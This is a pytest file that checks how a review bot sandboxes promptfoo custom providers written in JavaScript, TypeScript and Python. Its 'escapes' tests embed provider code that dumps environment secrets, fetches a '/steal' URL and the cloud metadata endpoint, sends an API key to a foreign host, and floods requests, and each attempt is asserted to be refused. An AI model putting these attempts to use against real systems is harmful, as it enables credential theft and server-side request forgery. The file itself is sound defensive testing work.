"""Providers written in code (promptfoo's custom providers), from the suite line to the verdict: JavaScript in
QuickJS with its bounded network bridge, Python in the jail without network, against the scripted model server
(which checks the API key it is sent). The escape tests are the ways such a provider could leak a credential
or reach what it must not.
"""

from __future__ import annotations

import asyncio

import pytest

from bot.core.config import EvalsConfig
from bot.core.files import MemoryTree
from bot.evals import EvalRequest, NoCache, run_evals
from bot.evals.loader import load_suite
from bot.evals.providers_code import MAX_REQUESTS, placeholder
from bot.modelserver import create_app
from bot.serving import start_in_thread

KEY = "sk-scripted-secret"
SUITE_PATH = "evals/promptfooconfig.yaml"

# promptfoo's custom provider shape: a class, its config from the entry, the OpenAI chat API through fetchWithCache
CHAT_PROVIDER = """\
const promptfoo = require('promptfoo').default;

class ChatProvider {
  constructor(options) {
    this.providerId = options.id || 'chat';
    this.config = options.config;
  }
  id() { return this.providerId; }
  async callApi(prompt, context) {
    const { data, cached, status } = await promptfoo.cache.fetchWithCache('https://api.openai.com/v1/chat/completions', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${process.env.OPENAI_API_KEY}` },
      body: JSON.stringify({ model: this.config.model, messages: [{ role: 'user', content: prompt }] }),
    }, 10000);
    if (status !== 200) return { error: `HTTP ${status}: ${JSON.stringify(data)}` };
    return {
      output: data.choices[0].message.content + (this.config.suffix || ''),
      tokenUsage: { total: data.usage.total_tokens, prompt: data.usage.prompt_tokens, completion: data.usage.completion_tokens },
    };
  }
}

module.exports = ChatProvider;
"""


@pytest.fixture(scope="module")
def server():
    running = start_in_thread(create_app(api_key=KEY))
    yield running.url
    running.stop()


def suite(provider: str, tests: str, prompt: str = 'Reply with "{{word}}"') -> str:
    return f"prompts: ['{prompt}']\nproviders:\n{provider}tests:\n{tests}"


WORD_TESTS = "  - description: apple\n    vars: {word: apple}\n    assert:\n      - {type: equals, value: apple}\n"


def review(url: str, head: dict[str, str], base: dict[str, str] | None = None, env: dict[str, str] | None = None,
           same_repo: bool = True, config: EvalsConfig | None = None):
    env = {"OPENAI_BASE_URL": f"{url}/v1", "OPENAI_API_KEY": KEY, **(env or {})}
    request = EvalRequest(base=MemoryTree(base or {}), head=MemoryTree(head), suites=[SUITE_PATH], env=env,
                          same_repo=same_repo, config=config or EvalsConfig(timeout_s=10))
    (report,) = asyncio.run(run_evals(request, NoCache())).suites
    return {c.description: c for c in report.cases}


def head_of(cases, description: str = "apple"):
    return cases[description].head


# ---- loading --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("pid, file, function", [
    ("file://p.js", "evals/p.js", None), ("./p.js", "evals/p.js", None), ("p.mjs", "evals/p.mjs", None),
    ("file://p.py", "evals/p.py", "call_api"), ("file://p.py:answer", "evals/p.py", "answer"),
    ("python:p.py", "evals/p.py", "call_api"),
])
def test_promptfoos_forms_of_a_provider_in_code_load_with_their_file_and_config(pid, file, function):
    tree = MemoryTree({SUITE_PATH: suite(f"  - id: {pid}\n    label: mine\n    config: {{temperature: 0.5, style: terse}}\n", WORD_TESTS),
                       "evals/p.js": "module.exports = class { async callApi(p) { return { output: p } } }\n",
                       "evals/p.mjs": "export default async function (p) { return p }\n",
                       "evals/p.py": "def call_api(prompt, options, context):\n    return {'output': prompt}\n"})
    loaded, errors = load_suite(tree, SUITE_PATH)
    assert errors == []
    (spec,) = loaded.providers
    assert (spec.kind, spec.code.file, spec.code.function) == ("code", file, function)
    assert dict(spec.params) == {"temperature": 0.5, "style": "terse"}  # the constructor's options.config


def test_a_python_provider_importing_a_package_the_sandbox_lacks_is_reported_at_its_line_when_loading():
    tree = MemoryTree({SUITE_PATH: suite("  - file://agent.py\n", WORD_TESTS),
                       "evals/agent.py": "import json\nfrom openai import OpenAI\nimport langchain.chains\n\ndef call_api(p, o, c):\n    return {}\n"})
    _, errors = load_suite(tree, SUITE_PATH)
    (error,) = [str(e) for e in errors]
    assert error.startswith(f"{SUITE_PATH}:3 (providers.0): unsupported: provider 'file://agent.py': evals/agent.py:3 imports "
                            "'langchain.chains', which is not in Python's standard library")
    assert "the sandbox's own openai, anthropic, requests, httpx (whose requests" in error  # openai is one of them (tests/sandbox/test_python_bridge.py)


def test_an_import_the_code_guards_itself_is_not_reported():
    source = "try:\n    import numpy\nexcept ImportError:\n    numpy = None\n\ndef call_api(p, o, c):\n    return {'output': p}\n"
    tree = MemoryTree({SUITE_PATH: suite("  - file://p.py\n", WORD_TESTS), "evals/p.py": source})
    assert load_suite(tree, SUITE_PATH)[1] == []


def test_a_go_provider_is_refused_with_the_rule_and_a_grader_in_code_loads():
    tree = MemoryTree({SUITE_PATH: "prompts: ['hi']\nproviders:\n  - file://p.go\n  - openai:gpt-4o\n"
                                   "defaultTest:\n  options:\n    provider: file://p.js\ntests:\n  - vars: {}\n",
                       "evals/p.js": "module.exports = () => 'x'\n"})
    _, errors = load_suite(tree, SUITE_PATH)
    messages = [e.message for e in errors]
    assert any(m.startswith("refused: provider 'file://p.go': executes code from the PR (a provider written in code)")
               and "not other programs" in m for m in messages), messages
    assert len(messages) == 1, messages  # the grader written in code runs in the sandbox (tests/compat/test_code_graders.py)


# ---- running ---------------------------------------------------------------------------------------------


def test_a_javascript_provider_calls_the_chat_api_through_fetch_with_cache_and_gets_the_scripted_answer(server):
    cases = review(server, {SUITE_PATH: suite("  - id: file://chat.js\n    label: mine\n    config: {model: gpt-4o-mini}\n", WORD_TESTS),
                            "evals/chat.js": CHAT_PROVIDER})
    apple = head_of(cases)
    assert (apple.passed, apple.output, apple.error) == (True, "apple", None)
    assert apple.tokens_in > 0 and apple.tokens_out > 0  # tokenUsage read as promptfoo reads it


def test_an_es_module_provider_with_global_fetch_and_its_config_answers(server):
    provider = """\
import promptfoo from 'promptfoo';
export default class {
  constructor(options) { this.config = options.config; }
  async callApi(prompt, context) {
    const resp = await fetch('https://api.openai.com/v1/chat/completions', {
      method: 'POST', headers: { authorization: 'Bearer ' + process.env.OPENAI_API_KEY },
      body: JSON.stringify({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: prompt }] }) });
    const data = await resp.json();
    return { output: data.choices[0].message.content + this.config.suffix + context.vars.word.length + context.prompt.label };
  }
}
"""
    cases = review(server, {SUITE_PATH: suite("  - id: file://chat.mjs\n    config: {suffix: '-'}\n", WORD_TESTS),
                            "evals/chat.mjs": provider})
    assert head_of(cases).output == "apple-5" + 'Reply with "{{word}}"'  # context: vars and the prompt's label


# promptfoo's TypeScript provider shape: typed options, `import type` from promptfoo, a class default export
TS_PROVIDER = """\
import type { ApiProvider, ProviderOptions, ProviderResponse } from 'promptfoo';

interface Config { model: string; suffix?: string }

export default class ChatProvider implements ApiProvider {
  private readonly config: Config;
  constructor(options: ProviderOptions) { this.config = options.config as Config; }
  id(): string { return 'typed-chat'; }
  async callApi(prompt: string): Promise<ProviderResponse> {
    const resp = await fetch('https://api.openai.com/v1/chat/completions', {
      method: 'POST', headers: { authorization: `Bearer ${process.env.OPENAI_API_KEY}` },
      body: JSON.stringify({ model: this.config.model, messages: [{ role: 'user', content: prompt }] }) });
    const data = (await resp.json()) as { choices: { message: { content: string } }[] };
    return { output: data.choices[0].message.content + (this.config.suffix ?? '') };
  }
}
"""


def test_a_typescript_provider_answers_through_the_sandbox(server):
    cases = review(server, {SUITE_PATH: suite("  - id: file://chat.ts\n    config: {model: gpt-4o-mini, suffix: '!'}\n", WORD_TESTS),
                            "evals/chat.ts": TS_PROVIDER})
    apple = head_of(cases)
    assert (apple.output, apple.error) == ("apple!", None)


def test_a_typescript_provider_with_a_syntax_error_is_an_error_at_its_file_and_line():
    tree = MemoryTree({SUITE_PATH: suite("  - file://chat.ts\n", WORD_TESTS),
                       "evals/chat.ts": "export default async function (prompt: string): string {\n  return prompt +;\n}\n"})
    _, errors = load_suite(tree, SUITE_PATH)
    assert [str(e) for e in errors] == [f"{SUITE_PATH}:3 (providers.0): provider: evals/chat.ts:2:18: TypeScript syntax error: "
                                        "Unexpected \";\""]


def test_a_forks_type_only_change_to_a_typescript_provider_never_runs_and_the_rule_is_named(server):
    source = "export default async (p: string): Promise<string> => 'apple';\n"
    base = {SUITE_PATH: suite("  - file://p.ts\n", WORD_TESTS), "evals/p.ts": source}
    cases = review(server, {**base, "evals/p.ts": source.replace("p: string", "p: any")}, base=base, same_repo=False)
    apple = cases["apple"]
    assert apple.status.value == "error" and apple.base.passed
    assert apple.head.error.startswith(f"{SUITE_PATH}:3: refused: executes code from a fork's pull request (provider code)")


def test_node_fetch_is_the_bridges_fetch_and_other_modules_are_refused_plainly(server):
    provider = """\
const fetch = require('node-fetch');
module.exports = async (prompt) => {
  const r = await fetch('https://api.openai.com/v1/chat/completions', { method: 'POST', headers: { Authorization: 'Bearer ' + process.env.OPENAI_API_KEY },
    body: JSON.stringify({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: prompt }] }) });
  return (await r.json()).choices[0].message.content;
};
"""
    cases = review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": provider})
    assert head_of(cases).output == "apple"
    cases = review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": "const os = require('os');\nmodule.exports = () => 'x';\n"})
    assert head_of(cases).error == ("provider file://p.js (evals/p.js): require('os'): only require('promptfoo') (its cache.fetchWithCache), "
                                    "require('node-fetch'), require('dotenv') (which loads nothing), path and url are available to a "
                                    "provider in the sandbox, besides the repository's own files and packages (relative paths, its "
                                    "workspace packages, a committed node_modules); put the rest of the code in the repository")
    # a provider that requires fs reads the repository (what it reads is recorded: tests/sandbox/test_case_reads.py)
    cases = review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/note.txt": "noted",
                            "evals/p.js": "const fs = require('fs');\nmodule.exports = () => fs.readFileSync('note.txt', 'utf8');\n"})
    assert head_of(cases).output == "noted"
    provider = ("const path = require('path');\nmodule.exports = async () => path.join(__dirname, '..', 'skills', 'x.md');\n")
    cases = review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": provider})
    assert head_of(cases).output == "/repo/skills/x.md"  # Node's path, and __dirname under the repository's root


def test_errors_are_errors_and_failures_are_failures_as_in_promptfoo(server):
    provider = """\
module.exports = class {
  async callApi(prompt) {
    if (prompt.includes('!ERROR!')) throw new Error('Forced error: ' + prompt);
    if (prompt.includes('!RETURNED!')) return { error: 'the backend said no' };
    return { output: prompt.toUpperCase() };
  }
};
"""
    tests = ("  - description: ok\n    vars: {word: hi}\n    assert: [{type: equals, value: 'REPLY WITH \"HI\"'}]\n"
             "  - description: thrown\n    vars: {word: '!ERROR!'}\n"
             "  - description: returned\n    vars: {word: '!RETURNED!'}\n"
             "  - description: fails\n    vars: {word: x}\n    assert: [{type: equals, value: nope}]\n")
    cases = review(server, {SUITE_PATH: suite("  - file://p.js\n", tests), "evals/p.js": provider})
    assert head_of(cases, "ok").passed
    thrown, returned, fails = head_of(cases, "thrown"), head_of(cases, "returned"), head_of(cases, "fails")
    assert thrown.error == "provider file://p.js (evals/p.js): the provider's code threw an error: Error: Forced error: Reply with \"!ERROR!\""
    assert returned.error == "provider file://p.js (evals/p.js): the backend said no"
    assert fails.error is None and not fails.passed
    assert [cases[d].status.value for d in ("thrown", "returned", "fails")] == ["error", "error", "new"]


def test_a_plain_function_provider_may_answer_an_object_read_as_other_providers_objects_are(server):
    provider = "module.exports = async (prompt, context) => ({ output: { word: context.vars.word, n: 1.0 } });\n"
    tests = "  - description: apple\n    vars: {word: apple}\n    assert:\n      - {type: is-json}\n      - {type: javascript, value: output.word === 'apple'}\n"
    cases = review(server, {SUITE_PATH: suite("  - file://p.js\n", tests), "evals/p.js": provider})
    apple = head_of(cases)
    assert apple.output == '{"word":"apple","n":1}' and apple.passed, apple


def test_label_and_provider_transform_apply_to_a_provider_in_code(server):
    provider = "module.exports = class { callApi(p) { return { output: '  ' + p + '  ' } } };\n"
    entry = "  - id: file://p.js\n    label: mine\n    transform: output.trim()\n"
    cases = review(server, {SUITE_PATH: suite(entry, "  - description: apple\n    vars: {word: apple}\n    assert: [{type: equals, value: 'Reply with \"apple\"'}]\n"),
                            "evals/p.js": provider})
    assert head_of(cases).passed
    assert cases["apple"].key.endswith("::mine")


@pytest.mark.parametrize("definition", [
    "def call_api(prompt, options, context):\n",
    "async def call_api(prompt, options, context):\n",
])
def test_a_python_provider_sync_or_async_answers_from_its_options_and_context(server, definition):
    source = definition + "    return {'output': context['vars']['word'] + options['config']['suffix'], 'tokenUsage': {'prompt': 3, 'completion': 1}}\n"
    cases = review(server, {SUITE_PATH: suite("  - id: file://p.py\n    config: {suffix: ''}\n", WORD_TESTS), "evals/p.py": source})
    apple = head_of(cases)
    assert (apple.passed, apple.output, apple.tokens_in, apple.tokens_out) == (True, "apple", 3, 1)


def test_a_python_provider_has_no_network_of_its_own(server):
    """Its only way out is the bridge (tests/sandbox/test_python_bridge.py): a socket of its own is refused."""
    port = server.rsplit(":", 1)[1]
    source = ("def call_api(prompt, options, context):\n    import socket\n"
              f"    return {{'output': str(socket.create_connection(('127.0.0.1', {port})))}}\n")
    cases = review(server, {SUITE_PATH: suite("  - file://p.py\n", WORD_TESTS), "evals/p.py": source})
    error = head_of(cases).error
    assert error.startswith("provider file://p.py (evals/p.py): the code tried `import socket`, which the sandbox refuses (no network"), error


def test_a_changed_provider_file_reruns_its_cases_and_says_why(server):
    base = {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": "module.exports = () => 'apple';\n"}
    cases = review(server, {**base, "evals/p.js": "module.exports = () => 'pear';\n"}, base=base)
    apple = cases["apple"]
    assert apple.status.value == "regressed" and "provider code changed" in apple.reasons, apple
    unchanged = review(server, base, base=base)
    assert "apple" not in unchanged  # the same provider code: nothing to rerun


def test_a_providers_file_is_a_dependency_of_its_suite_so_changing_it_alone_is_under_review():
    from bot.evals import find_dependencies
    from bot.evals.loaded import LoadedSuites

    tree = MemoryTree({SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": "module.exports = () => 'apple';\n"})
    deps = {(d.path, d.reason) for d in find_dependencies(tree, tree, [SUITE_PATH], LoadedSuites())}
    assert ("evals/p.js", f"code of {SUITE_PATH}") in deps


def test_a_forks_changed_provider_never_runs_and_the_rule_is_named(server):
    base = {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": "module.exports = () => 'apple';\n"}
    cases = review(server, {**base, "evals/p.js": "module.exports = () => 'pwned';\n"}, base=base, same_repo=False)
    apple = cases["apple"]
    assert apple.status.value == "error" and apple.base.passed
    assert apple.head.error.startswith(f"{SUITE_PATH}:3: refused: executes code from a fork's pull request (provider code)")
    never = review(server, {**base, "evals/p.js": "module.exports = () => 'pear';\n"}, base=base,
                   config=EvalsConfig(timeout_s=10, run_pr_code="never"))
    assert "evals.run_pr_code: never" in never["apple"].head.error


def test_a_provider_in_code_is_stopped_by_the_sandboxs_time_limit(server):
    cases = review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS),
                            "evals/p.js": "module.exports = async () => { for (;;) {} };\n"})
    assert "ran longer than" in head_of(cases).error


# ---- escapes ---------------------------------------------------------------------------------------------


def test_the_provider_reads_a_placeholder_never_the_credential(server):
    cases = review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS),
                            "evals/p.js": "module.exports = () => JSON.stringify(process.env);\n"})
    output = head_of(cases).output
    assert KEY not in output
    assert placeholder("OPENAI_API_KEY") in output


@pytest.mark.parametrize("url", ["http://127.0.0.1:9/steal", "http://169.254.169.254/latest/meta-data/"])
def test_a_host_that_is_not_allowed_is_refused_even_when_the_code_catches(server, url):
    provider = f"""module.exports = async () => {{
  try {{ await fetch('{url}'); }} catch (e) {{ return 'caught: ' + e; }}
  return 'reached';
}};
"""
    cases = review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": provider})
    error = head_of(cases).error
    assert error is not None and f"fetch '{url}': refused: a provider written in code reaches only the model APIs" in error, error
    assert "evals.allowed_base_urls" in error


def test_the_credential_is_never_sent_to_another_host_even_an_allowed_one(server):
    other = start_in_thread(create_app())  # an allowlisted server of someone else
    try:
        env = {"PROMPT_REVIEW_ALLOWED_MODEL_URLS": other.url, "PROMPT_REVIEW_ALLOW_PRIVATE_MODEL_URLS": "1"}
        leak = f"""module.exports = async () => {{
  const r = await fetch('{other.url}/v1/chat/completions', {{ method: 'POST', headers: {{ Authorization: 'Bearer ' + process.env.OPENAI_API_KEY }},
    body: JSON.stringify({{ model: 'gpt-4o-mini', messages: [{{ role: 'user', content: 'Reply with "x"' }}] }}) }});
  return 'sent ' + r.status;
}};
"""
        error = head_of(review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": leak}, env=env)).error
        assert error is not None and "refused: the request carries process.env.OPENAI_API_KEY, which goes only to its own vendor's API" in error
        in_body = f"module.exports = async () => (await fetch('https://api.openai.com/v1/x', {{method: 'POST', body: process.env.OPENAI_API_KEY}})).status;\n"
        error = head_of(review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": in_body})).error
        assert "refused: process.env.OPENAI_API_KEY is put in request headers only, never in the URL or body" in error
        # without the credential, the allowlisted server is reachable (the http provider's allowlist)
        plain = leak.replace("Authorization: 'Bearer ' + process.env.OPENAI_API_KEY", "'X-Case': 'one'")
        allowed = head_of(review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": plain}, env=env))
        assert (allowed.error, allowed.output) == (None, "sent 200")
    finally:
        other.stop()


ANTHROPIC_PROVIDER = """\
module.exports = async (prompt) => {
  const r = await fetch('https://api.anthropic.com/v1/messages', { method: 'POST',
    headers: { 'x-api-key': process.env.KEY_NAME, 'anthropic-version': '2023-06-01', 'content-type': 'application/json' },
    body: JSON.stringify({ model: 'claude-sonnet-4-0', max_tokens: 100, messages: [{ role: 'user', content: prompt }] }) });
  const data = await r.json();
  return r.status === 200 ? data.content[0].text : { error: 'HTTP ' + r.status };
};
"""


def test_each_credential_goes_to_its_own_vendor_only(server):
    env = {"ANTHROPIC_BASE_URL": server, "ANTHROPIC_API_KEY": KEY}
    own = ANTHROPIC_PROVIDER.replace("KEY_NAME", "ANTHROPIC_API_KEY")
    assert head_of(review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": own}, env=env)).output == "apple"
    # OpenAI's key in a request to Anthropic's API (both on the operator's server here): refused
    other = ANTHROPIC_PROVIDER.replace("KEY_NAME", "OPENAI_API_KEY")
    error = head_of(review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": other},
                          env={"ANTHROPIC_BASE_URL": server.replace("127.0.0.1", "localhost"), "ANTHROPIC_API_KEY": KEY})).error
    assert error is not None and "refused: the request carries process.env.OPENAI_API_KEY, which goes only to its own vendor's API " \
                                 "(this is anthropic's)" in error, error


@pytest.mark.parametrize("provider", [
    """module.exports = async () => {
  for (let i = 0; i < 100; i++) await fetch('https://api.openai.com/v1/models', { headers: { Authorization: 'Bearer ' + process.env.OPENAI_API_KEY } });
  return 'done';
};
""",
    # all at once, each with a large body: refused as well, and the host never holds them
    """module.exports = async () => {
  const body = 'x'.repeat(900000);
  try { await Promise.all(Array.from({ length: 200 }, () => fetch('https://api.openai.com/v1/models', { method: 'POST', body }))); }
  catch (e) { return 'caught'; }
  return 'done';
};
""",
])
def test_the_number_of_requests_in_one_call_is_bounded(server, provider):
    error = head_of(review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": provider})).error
    assert error is not None and f"refused: more than {MAX_REQUESTS} requests in one call" in error, error


@pytest.mark.parametrize("attack, words", [
    ("globalThis.__pr_take = () => '[{\"id\": 1, \"kind\": \"fetch\", \"url\": 5}]'; await fetch('https://api.openai.com/v1/models');",
     "the provider's requests could not be read"),
    ("globalThis.__pr_answer = () => 5;", "could not be read"),
])
def test_a_provider_replacing_the_harness_functions_gets_a_case_error_not_a_crash(server, attack, words):
    provider = f"module.exports = async () => {{ {attack} return 'x'; }};\n"
    error = head_of(review(server, {SUITE_PATH: suite("  - file://p.js\n", WORD_TESTS), "evals/p.js": provider})).error
    assert error is not None and words in error, error
